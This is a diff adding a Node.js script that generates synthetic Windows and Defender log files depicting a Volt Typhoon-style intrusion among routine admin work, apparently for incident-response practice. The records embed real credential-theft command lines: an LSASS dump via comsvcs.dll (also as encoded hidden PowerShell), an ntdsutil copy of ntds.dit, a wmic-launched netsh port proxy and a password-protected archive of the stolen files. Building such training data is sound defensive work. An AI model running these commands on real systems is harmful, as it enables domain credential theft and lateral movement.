@@ -1,0 +1,339 @@
+#!/usr/bin/env node
+/**
+ * Writes examples/: a small intrusion in the style of Microsoft's Volt Typhoon advisory (valid
+ * account from an unusual IP, discovery, an LSASS dump through comsvcs.dll, ntdsutil install media,
+ * a netsh port proxy set up through wmic, a password-protected 7z archive, a custom FRP binary)
+ * among ordinary admin work, in the formats responders receive. Deterministic: run it again and
+ * the files do not change. See examples/README.md for the story and the formats.
+ */
+import { mkdirSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+
+const out = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'examples');
+mkdirSync(path.join(out, 'defender'), { recursive: true });
+
+const DAY = '2023-05-16';
+const at = (hms, ms = 0) => `${DAY}T${hms}.${String(ms).padStart(3, '0')}0000Z`;
+const FRP_SHA256 = 'baeffeb5fdef2f42a752c65c2d2a52e84fb57efc906d981f89dd518c314e231c';
+const FRP_MD5 = '3f3ba6bf2a4b3a1b7bd1a9c3b8b1a4e2';
+const FRP_SHA1 = '1d7b6cbd6e2a1c2f5e1dbe7bb6e4e4f2a3c8d9e0';
+const C2_IP = '198.51.100.14';
+const SOHO_IP = '203.0.113.77';
+
+// PowerShell -EncodedCommand payloads are UTF-16LE Base64, as in the advisory's Figure 2.
+const enc = (s) => Buffer.from(s, 'utf16le').toString('base64');
+const LSASS_PS = 'cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\lsass.dmp full';
+
+// ---- evtx_dump-style records ------------------------------------------------------------------
+let record = 1000;
+function evtx(system, eventData) {
+  record++;
+  return {
+    Event: {
+      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
+      System: {
+        Provider: { '#attributes': { Name: system.provider, Guid: system.guid } },
+        EventID: system.eventId,
+        Version: system.version ?? 0,
+        Level: 4,
+        Task: system.task ?? 0,
+        Opcode: 0,
+        Keywords: system.keywords ?? '0x8000000000000000',
+        TimeCreated: { '#attributes': { SystemTime: system.time } },
+        EventRecordID: record,
+        Correlation: null,
+        Execution: { '#attributes': { ProcessID: 3140, ThreadID: 4264 } },
+        Channel: system.channel,
+        Computer: system.computer,
+        Security: { '#attributes': { UserID: 'S-1-5-18' } },
+      },
+      EventData: eventData,
+    },
+  };
+}
+
+const SYSMON = { provider: 'Microsoft-Windows-Sysmon', guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}', channel: 'Microsoft-Windows-Sysmon/Operational' };
+let pid = 4100;
+const guid = (n) => `{8A1F2C3D-1E2F-6464-${String(n).padStart(4, '0')}-000000000D00}`;
+
+function sysmon1(computer, time, user, image, commandLine, parent, parentCmd, extra = {}) {
+  pid += 16;
+  return evtx(
+    { ...SYSMON, eventId: 1, version: 5, task: 1, time, computer },
+    {
+      RuleName: '-',
+      UtcTime: time.replace('T', ' ').slice(0, 23),
+      ProcessGuid: guid(pid),
+      ProcessId: pid,
+      Image: image,
+      FileVersion: extra.FileVersion ?? '10.0.17763.1 (WinBuild.160101.0800)',
+      Description: extra.Description ?? path.win32.basename(image),
+      Product: extra.Product ?? 'Microsoft® Windows® Operating System',
+      Company: extra.Company ?? 'Microsoft Corporation',
+      OriginalFileName: extra.OriginalFileName ?? path.win32.basename(image),
+      CommandLine: commandLine,
+      CurrentDirectory: 'C:\\Windows\\system32\\',
+      User: user,
+      LogonGuid: '{8A1F2C3D-1E2F-6464-0000-0020E7A10500}',
+      LogonId: '0x5A1E7',
+      TerminalSessionId: 0,
+      IntegrityLevel: 'High',
+      Hashes: extra.Hashes ?? 'SHA1=0D8C1A6A3E6E1B57D7E8C3F0C2B1D2A4E5F60718,MD5=6A2B0C5E8E1D0A3F4B7C9D2E1F0A3B4C,SHA256=8F1E2D3C4B5A69788796A5B4C3D2E1F00112233445566778899AABBCCDDEEFF0,IMPHASH=2A3B4C5D6E7F80910A1B2C3D4E5F6071',
+      ParentProcessGuid: guid(pid - 8),
+      ParentProcessId: pid - 8,
+      ParentImage: parent,
+      ParentCommandLine: parentCmd,
+      ParentUser: user,
+    },
+  );
+}
+
+const WS = 'WS07.contoso.local';
+const FS = 'FS02.contoso.local';
+const DC = 'DC01.contoso.local';
+const ADMIN = 'CONTOSO\\jdoe';
+const THIEF = 'CONTOSO\\svc-fortinet';
+const CMD = 'C:\\Windows\\System32\\cmd.exe';
+const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+const WMIC = 'C:\\Windows\\System32\\wbem\\WMIC.exe';
+const EXPLORER = 'C:\\Windows\\explorer.exe';
+
+const sysmon = [
+  // 09:0x benign admin work on the workstation
+  sysmon1(WS, at('09:02:11', 120), ADMIN, 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all', CMD, 'cmd.exe'),
+  sysmon1(WS, at('09:03:40', 5), ADMIN, 'C:\\Windows\\System32\\gpupdate.exe', 'gpupdate /force', CMD, 'cmd.exe'),
+  sysmon1(WS, at('09:05:02', 300), ADMIN, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\jdoe\\Documents\\change-ticket-4411.txt', EXPLORER, 'C:\\Windows\\Explorer.EXE'),
+  sysmon1(WS, at('09:07:15', 0), ADMIN, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows', CMD, 'cmd.exe'),
+  sysmon1(WS, at('09:09:30', 0), ADMIN, 'C:\\Program Files\\7-Zip\\7z.exe', '"C:\\Program Files\\7-Zip\\7z.exe" a C:\\Users\\jdoe\\Documents\\tickets.7z C:\\Users\\jdoe\\Documents\\*.txt', CMD, 'cmd.exe', { Company: 'Igor Pavlov', Product: '7-Zip', OriginalFileName: '7z.exe', Description: '7-Zip Console' }),
+  // 13:1x the intruder, signed in as svc-fortinet, on the file server: discovery
+  sysmon1(FS, at('13:10:05', 10), THIEF, WMIC, 'wmic volume list brief', CMD, 'cmd.exe'),
+  sysmon1(FS, at('13:10:21', 0), THIEF, WMIC, 'wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename', CMD, 'cmd.exe'),
+  sysmon1(FS, at('13:10:44', 0), THIEF, 'C:\\Windows\\System32\\tasklist.exe', 'tasklist /v', CMD, 'cmd.exe'),
+  sysmon1(FS, at('13:11:02', 0), THIEF, 'C:\\Windows\\System32\\netsh.exe', 'netsh interface portproxy show all', CMD, 'cmd.exe'),
+  sysmon1(FS, at('13:11:30', 0), THIEF, 'C:\\Windows\\System32\\PING.EXE', 'ping -n 1 10.0.5.10', CMD, 'cmd.exe'),
+  sysmon1(FS, at('13:11:58', 0), THIEF, WMIC, 'wmic computersystem get manufacturer,model', CMD, 'cmd.exe'),
+  // 13:2x credential access: LSASS dump through comsvcs.dll, launched from encoded PowerShell
+  sysmon1(FS, at('13:20:01', 0), THIEF, PS, `powershell.exe -exec bypass -W hidden -nop -E ${enc(LSASS_PS)}`, CMD, 'cmd.exe'),
+  sysmon1(FS, at('13:20:02', 50), THIEF, 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\lsass.dmp full', CMD, LSASS_PS),
+  evtx(
+    { ...SYSMON, eventId: 10, version: 3, task: 10, time: at('13:20:02', 90), computer: FS },
+    {
+      RuleName: '-',
+      UtcTime: `${DAY} 13:20:02.090`,
+      SourceProcessGUID: guid(pid),
+      SourceProcessId: pid,
+      SourceThreadId: 5120,
+      SourceImage: 'C:\\Windows\\System32\\rundll32.exe',
+      TargetProcessGUID: '{8A1F2C3D-1E2F-6464-0C00-000000000D00}',
+      TargetProcessId: 652,
+      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
+      GrantedAccess: '0x1FFFFF',
+      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcae|C:\\Windows\\System32\\comsvcs.dll+4b3e1|C:\\Windows\\System32\\dbgcore.dll+6c2a',
+      SourceUser: THIEF,
+      TargetUser: 'NT AUTHORITY\\SYSTEM',
+    },
+  ),
+  evtx(
+    { ...SYSMON, eventId: 11, version: 2, task: 11, time: at('13:20:04', 0), computer: FS },
+    {
+      RuleName: '-',
+      UtcTime: `${DAY} 13:20:04.000`,
+      ProcessGuid: guid(pid),
+      ProcessId: pid,
+      Image: 'C:\\Windows\\System32\\rundll32.exe',
+      TargetFilename: 'C:\\Windows\\Temp\\lsass.dmp',
+      CreationUtcTime: `${DAY} 13:20:04.000`,
+      User: THIEF,
+    },
+  ),
+  // 13:4x command and control: the FRP binary dropped, run and connecting out
+  evtx(
+    { ...SYSMON, eventId: 11, version: 2, task: 11, time: at('13:40:10', 0), computer: FS },
+    {
+      RuleName: '-',
+      UtcTime: `${DAY} 13:40:10.000`,
+      ProcessGuid: guid(pid),
+      ProcessId: pid,
+      Image: CMD,
+      TargetFilename: 'C:\\Users\\Public\\Videos\\svchost.exe',
+      CreationUtcTime: `${DAY} 13:40:10.000`,
+      User: THIEF,
+    },
+  ),
+  sysmon1(FS, at('13:40:31', 0), THIEF, 'C:\\Users\\Public\\Videos\\svchost.exe', 'C:\\Users\\Public\\Videos\\svchost.exe -c C:\\Users\\Public\\Videos\\config.ini', CMD, 'cmd.exe', {
+    Description: '-',
+    Product: '-',
+    Company: '-',
+    FileVersion: '-',
+    OriginalFileName: '-',
+    Hashes: `SHA1=${FRP_SHA1.toUpperCase()},MD5=${FRP_MD5.toUpperCase()},SHA256=${FRP_SHA256.toUpperCase()},IMPHASH=00000000000000000000000000000000`,
+  }),
+  evtx(
+    { ...SYSMON, eventId: 3, version: 5, task: 3, time: at('13:40:33', 0), computer: FS },
+    {
+      RuleName: '-',
+      UtcTime: `${DAY} 13:40:33.000`,
+      ProcessGuid: guid(pid),
+      ProcessId: pid,
+      Image: 'C:\\Users\\Public\\Videos\\svchost.exe',
+      User: THIEF,
+      Protocol: 'tcp',
+      Initiated: 'true',
+      SourceIsIpv6: 'false',
+      SourceIp: '10.0.5.21',
+      SourceHostname: FS,
+      SourcePort: 50632,
+      SourcePortName: '-',
+      DestinationIsIpv6: 'false',
+      DestinationIp: C2_IP,
+      DestinationHostname: '-',
+      DestinationPort: 443,
+      DestinationPortName: 'https',
+    },
+  ),
+  // 13:5x the port proxy set up through wmic, its registry trace, and its removal
+  sysmon1(FS, at('13:50:12', 0), THIEF, WMIC, 'wmic process call create "cmd.exe /c netsh interface portproxy add v4tov4 listenport=50100 listenaddress=0.0.0.0 connectport=1433 connectaddress=10.0.5.10"', CMD, 'cmd.exe'),
+  evtx(
+    { ...SYSMON, eventId: 13, version: 2, task: 13, time: at('13:50:13', 0), computer: FS },
+    {
+      RuleName: '-',
+      EventType: 'SetValue',
+      UtcTime: `${DAY} 13:50:13.000`,
+      ProcessGuid: guid(pid + 1),
+      ProcessId: pid + 1,
+      Image: 'C:\\Windows\\System32\\netsh.exe',
+      TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/50100',
+      Details: '10.0.5.10/1433',
+      User: THIEF,
+    },
+  ),
+  sysmon1(FS, at('14:30:00', 0), THIEF, 'C:\\Windows\\System32\\netsh.exe', 'netsh interface portproxy delete v4tov4 listenport=50100 listenaddress=0.0.0.0', CMD, 'cmd.exe'),
+  // 14:1x collection: the install media staged in a password-protected archive
+  sysmon1(FS, at('14:12:40', 0), THIEF, 'C:\\Users\\Public\\7z.exe', 'C:\\Users\\Public\\7z.exe a -p"Pa55w0rd!" -mhe=on C:\\Users\\Public\\Music\\rar.7z \\\\DC01\\C$\\Windows\\Temp\\Pro\\*', CMD, 'cmd.exe', { Company: 'Igor Pavlov', Product: '7-Zip', OriginalFileName: '7z.exe', Description: '7-Zip Console' }),
+];
+
+// ---- Security and Application on the domain controller (evtx_dump style) -------------------------
+const SEC = { provider: 'Microsoft-Windows-Security-Auditing', guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}', channel: 'Security' };
+const hex = (n) => `0x${n.toString(16)}`;
+let dcPid = 0x1a00;
+function sec4688(time, user, image, commandLine, parent) {
+  dcPid += 0x24;
+  return evtx(
+    { ...SEC, eventId: 4688, version: 2, task: 13312, time, computer: DC, keywords: '0x8020000000000000' },
+    {
+      SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1108',
+      SubjectUserName: user.split('\\')[1],
+      SubjectDomainName: user.split('\\')[0],
+      SubjectLogonId: '0x4c7a21',
+      NewProcessId: hex(dcPid),
+      NewProcessName: image,
+      TokenElevationType: '%%1936',
+      ProcessId: hex(dcPid - 0x24),
+      CommandLine: commandLine,
+      TargetUserSid: 'S-1-0-0',
+      TargetUserName: '-',
+      TargetDomainName: '-',
+      TargetLogonId: '0x0',
+      ParentProcessName: parent,
+      MandatoryLabel: 'S-1-16-12288',
+    },
+  );
+}
+function sec4624(time, computer, user, logonType, ip, workstation) {
+  return evtx(
+    { ...SEC, eventId: 4624, version: 2, task: 12544, time, computer, keywords: '0x8020000000000000' },
+    {
+      SubjectUserSid: 'S-1-0-0',
+      SubjectUserName: '-',
+      SubjectDomainName: '-',
+      SubjectLogonId: '0x0',
+      TargetUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1108',
+      TargetUserName: user.split('\\')[1],
+      TargetDomainName: user.split('\\')[0],
+      TargetLogonId: '0x4c7a21',
+      LogonType: logonType,
+      LogonProcessName: 'NtLmSsp ',
+      AuthenticationPackageName: 'NTLM',
+      WorkstationName: workstation,
+      LogonGuid: '{00000000-0000-0000-0000-000000000000}',
+      TransmittedServices: '-',
+      LmPackageName: 'NTLM V2',
+      KeyLength: 128,
+      ProcessId: '0x0',
+      ProcessName: '-',
+      IpAddress: ip,
+      IpPort: '51234',
+      ImpersonationLevel: '%%1833',
+      RestrictedAdminMode: '-',
+      TargetOutboundUserName: '-',
+      TargetOutboundDomainName: '-',
+      VirtualAccount: '%%1843',
+      TargetLinkedLogonId: '0x0',
+      ElevatedLogon: '%%1842',
+    },
+  );
+}
+const NTDS = 'C:\\Windows\\System32\\ntdsutil.exe';
+const ESENT = { provider: 'ESENT', guid: '{478EA8A8-00BE-4BA6-8E75-8B9DC7DB9F78}', channel: 'Application' };
+const esent = (eventId, time, data) => {
+  const e = evtx({ ...ESENT, eventId, time, computer: DC, keywords: '0x80000000000000' }, { Data: data });
+  delete e.Event.System.Provider['#attributes'].Guid;
+  return e;
+};
+const security = [
+  sec4624(at('08:58:30', 0), DC, ADMIN, 3, '10.0.5.23', 'WS07'),
+  sec4624(at('13:05:12', 0), DC, THIEF, 3, SOHO_IP, '-'),
+  sec4688(at('09:15:00', 0), ADMIN, NTDS, 'ntdsutil "ac i ntds" "files" "info" q q', CMD),
+  sec4688(at('13:30:00', 0), THIEF, NTDS, 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\Pro" q q', CMD),
+  esent(325, at('13:30:05', 0), ['NTDS', '1352', 'NTDSA', 'C:\\Windows\\Temp\\Pro\\Active Directory\\ntds.dit', '0']),
+  esent(327, at('13:30:41', 0), ['NTDS', '1352', 'NTDSA', 'C:\\Windows\\Temp\\Pro\\Active Directory\\ntds.dit', '0']),
+  sec4688(at('13:35:00', 0), THIEF, WMIC, 'wmic /node:DC01 process call create "ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\Pro\\" q q"', CMD),
+];
+
+const jsonl = (rows) => `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`;
+writeFileSync(path.join(out, 'sysmon-fs02-ws07.jsonl'), jsonl(sysmon));
+writeFileSync(path.join(out, 'security-application-dc01.jsonl'), jsonl(security));
+
+// ---- Defender Advanced Hunting export (JSON arrays, one file per table) ------------------------
+const dev = { DeviceId: 'b1e3f0c29a7d4e26a1c5f3d8e0b2a4c6', DeviceName: 'fs02.contoso.local' };
+const initiator = {
+  InitiatingProcessAccountDomain: 'contoso',
+  InitiatingProcessAccountName: 'svc-fortinet',
+  InitiatingProcessFileName: 'cmd.exe',
+  InitiatingProcessFolderPath: 'c:\\windows\\system32\\cmd.exe',
+  InitiatingProcessCommandLine: 'cmd.exe',
+  InitiatingProcessId: 7712,
+};
+const processRows = [
+  { Timestamp: at('13:50:12', 0), ...dev, ActionType: 'ProcessCreated', FileName: 'WMIC.exe', FolderPath: 'c:\\windows\\system32\\wbem\\wmic.exe', SHA256: '1c4d1e3f2a5b6c7d8e9f00112233445566778899aabbccddeeff001122334455', ProcessId: 7730, ProcessCommandLine: 'wmic process call create "cmd.exe /c netsh interface portproxy add v4tov4 listenport=50100 listenaddress=0.0.0.0 connectport=1433 connectaddress=10.0.5.10"', AccountDomain: 'contoso', AccountName: 'svc-fortinet', ProcessVersionInfoOriginalFileName: 'wmic.exe', ProcessIntegrityLevel: 'High', ReportId: 501, ...initiator },
+  { Timestamp: at('14:12:40', 0), ...dev, ActionType: 'ProcessCreated', FileName: '7z.exe', FolderPath: 'c:\\users\\public\\7z.exe', SHA256: '2d5e2f4031426374859607a8b9cadbecfd0e1f2031425364758697a8b9cadbec', ProcessId: 7801, ProcessCommandLine: 'C:\\Users\\Public\\7z.exe a -p"Pa55w0rd!" -mhe=on C:\\Users\\Public\\Music\\rar.7z \\\\DC01\\C$\\Windows\\Temp\\Pro\\*', AccountDomain: 'contoso', AccountName: 'svc-fortinet', ProcessVersionInfoOriginalFileName: '7z.exe', ProcessIntegrityLevel: 'High', ReportId: 502, ...initiator },
+  { Timestamp: at('16:01:00', 0), ...dev, ActionType: 'ProcessCreated', FileName: 'svchost.exe', FolderPath: 'c:\\windows\\system32\\svchost.exe', SHA256: '643ec58e82e0272c97c2a59f6020970d881af19c0ad5029db9c958c13b6558c7', ProcessId: 900, ProcessCommandLine: 'svchost.exe -k netsvcs -p -s Schedule', AccountDomain: 'nt authority', AccountName: 'system', ProcessVersionInfoOriginalFileName: 'svchost.exe', ProcessIntegrityLevel: 'System', ReportId: 503, InitiatingProcessAccountDomain: 'nt authority', InitiatingProcessAccountName: 'system', InitiatingProcessFileName: 'services.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\services.exe', InitiatingProcessCommandLine: 'services.exe', InitiatingProcessId: 640 },
+];
+const logonRows = [
+  { Timestamp: at('08:58:31', 0), ...dev, ActionType: 'LogonSuccess', AccountDomain: 'contoso', AccountName: 'jdoe', LogonType: 'Network', RemoteIP: '10.0.5.23', RemoteIPType: 'Private', RemotePort: 51002, Protocol: 'Kerberos', ReportId: 601 },
+  { Timestamp: at('13:05:12', 0), ...dev, ActionType: 'LogonSuccess', AccountDomain: 'contoso', AccountName: 'svc-fortinet', LogonType: 'RemoteInteractive', RemoteIP: SOHO_IP, RemoteIPType: 'Public', RemotePort: 51234, Protocol: 'NTLM', ReportId: 602 },
+  { Timestamp: at('13:04:58', 0), ...dev, ActionType: 'LogonFailed', AccountDomain: 'contoso', AccountName: 'svc-fortinet', LogonType: 'RemoteInteractive', RemoteIP: SOHO_IP, RemoteIPType: 'Public', RemotePort: 51230, Protocol: 'NTLM', FailureReason: 'InvalidUserNameOrPassword', ReportId: 603 },
+];
+const fileRows = [
+  { Timestamp: at('13:40:10', 0), ...dev, ActionType: 'FileCreated', FileName: 'svchost.exe', FolderPath: 'C:\\Users\\Public\\Videos\\svchost.exe', SHA1: FRP_SHA1, SHA256: FRP_SHA256, MD5: FRP_MD5, FileSize: 11862528, ReportId: 701, ...initiator },
+  { Timestamp: at('13:20:04', 0), ...dev, ActionType: 'FileCreated', FileName: 'lsass.dmp', FolderPath: 'C:\\Windows\\Temp\\lsass.dmp', FileSize: 48234496, ReportId: 702, ...initiator, InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe', InitiatingProcessCommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\lsass.dmp full' },
+];
+const pretty = (rows) => `${JSON.stringify(rows, null, 2)}\n`;
+writeFileSync(path.join(out, 'defender', 'DeviceProcessEvents.json'), pretty(processRows));
+writeFileSync(path.join(out, 'defender', 'DeviceLogonEvents.json'), pretty(logonRows));
+writeFileSync(path.join(out, 'defender', 'DeviceFileEvents.json'), pretty(fileRows));
+
+// ---- a CSV as the Defender portal exports it (another host's process events) ----------------------
+const csvCols = ['Timestamp', 'DeviceName', 'ActionType', 'FileName', 'FolderPath', 'ProcessCommandLine', 'AccountDomain', 'AccountName', 'InitiatingProcessFileName', 'InitiatingProcessCommandLine', 'SHA256'];
+const csvRows = [
+  [at('13:12:05', 0), 'ws07.contoso.local', 'ProcessCreated', 'powershell.exe', 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', 'powershell.exe -c "Get-WmiObject -Class Win32_ComputerSystem | Select Manufacturer,Model"', 'contoso', 'svc-fortinet', 'cmd.exe', 'cmd.exe', ''],
+  [at('13:12:40', 0), 'ws07.contoso.local', 'ProcessCreated', 'PING.EXE', 'c:\\windows\\system32\\ping.exe', 'ping -n 1 10.0.5.21', 'contoso', 'svc-fortinet', 'cmd.exe', 'cmd.exe', ''],
+  [at('13:13:10', 0), 'ws07.contoso.local', 'ProcessCreated', 'wevtutil.exe', 'c:\\windows\\system32\\wevtutil.exe', 'wevtutil qe Security /rd:true /f:text /q:"*[System[(EventID=4624)]]"', 'contoso', 'svc-fortinet', 'cmd.exe', 'cmd.exe', ''],
+  [at('15:20:00', 0), 'ws07.contoso.local', 'ProcessCreated', 'OneDrive.exe', 'c:\\users\\jdoe\\appdata\\local\\microsoft\\onedrive\\onedrive.exe', '"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background', 'contoso', 'jdoe', 'explorer.exe', 'C:\\Windows\\Explorer.EXE', ''],
+];
+const csvCell = (v) => (/[",\n]/.test(String(v)) ? `"${String(v).replace(/"/g, '""')}"` : String(v));
+writeFileSync(
+  path.join(out, 'defender-portal-export.csv'),
+  `${[csvCols, ...csvRows].map((r) => r.map(csvCell).join(',')).join('\r\n')}\r\n`,
+);
+console.log(`examples written to ${out}`);
